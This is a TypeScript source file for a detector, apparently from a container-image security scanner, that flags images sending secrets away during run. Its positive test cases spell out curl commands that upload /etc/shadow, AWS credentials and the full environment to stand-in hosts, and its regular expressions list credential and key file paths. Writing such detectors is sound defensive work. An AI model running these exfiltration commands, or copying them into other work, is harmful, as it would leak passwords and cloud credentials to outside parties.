import { render } from '../trace/value.ts';
import type { Detector } from './detector.ts';
import { effectsOf } from './effects-of.ts';
import { findingOf, sightingOf } from './sighting.ts';
import { valueWords } from './wording.ts';

/** Secrets sent away. */
export const exfiltration: Detector = {
  id: 'exfiltration',
  version: 1,
  title: 'Sends secrets to somebody.',
  attack: ['T1041', 'T1552.001', 'T1567'],
  description: `
Uploading a file is ordinary. Uploading private keys, password tables, cloud or registry credentials or the whole environment
is not: *malicious* when an image does it while running.
`,
  fires: [
    { name: 'password table', image: { cmd: ['sh', '-c', 'curl -s --data-binary @/etc/shadow http://203.0.113.9/c'] } },
    {
      name: 'cloud credentials',
      image: { cmd: ['sh', '-c', 'curl -F f=@/root/.aws/credentials https://collect.example/; exec app'] },
    },
    { name: 'the environment', image: { cmd: ['sh', '-c', 'curl -d "$(env)" https://collect.example/; exec app'] } },
  ],
  silent: [
    { name: 'a report', image: { cmd: ['sh', '-c', 'curl -F file=@/tmp/report.html https://ci.example/upload'] } },
    { name: 'a message', image: { cmd: ['sh', '-c', `curl -d '{"text":"started"}' https://hooks.example/x`] } },
  ],
  detect(scene) {
    return effectsOf(scene, 'exfiltrate').flatMap((effect) => {
      const what = secretNamed(render(effect.what));
      if (!what) return [];
      return findingOf(scene, sightingOf(scene, effect), {
        threat: 'hostile',
        title: `Sends ${what} to ${valueWords(effect.to, 100)}`,
        effects: [effect.id],
      });
    });
  },
};

/** What kind of secret a path or a command's output is. */
function secretNamed(text: string): string | undefined {
  const flat = text.slice(0, 2000);
  if (/\/etc\/g?shadow/.test(flat)) return 'the password table';
  if (/\.ssh\/(id_|\*|$)|ssh_host_[a-z0-9]{1,12}_key/.test(flat)) return 'private SSH keys';
  if (/\.aws\/credentials|\.config\/gcloud|\.azure\//.test(flat)) return 'cloud credentials';
  if (
    /\.docker\/config\.json|\.kube\/config|kubernetes\.io\/serviceaccount\/token|\.git-credentials|\.netrc|\.npmrc|\.pypirc/.test(
      flat,
    )
  )
    return 'access tokens';
  if (/\.bash_history|\.zsh_history/.test(flat)) return 'the shell history';
  if (/[$`]\(?\s{0,2}(env|printenv)\s{0,2}[)`|]/.test(flat) || /\/proc\/(self|1|\*)\/environ/.test(flat))
    return 'the environment with its secrets';
  return undefined;
}
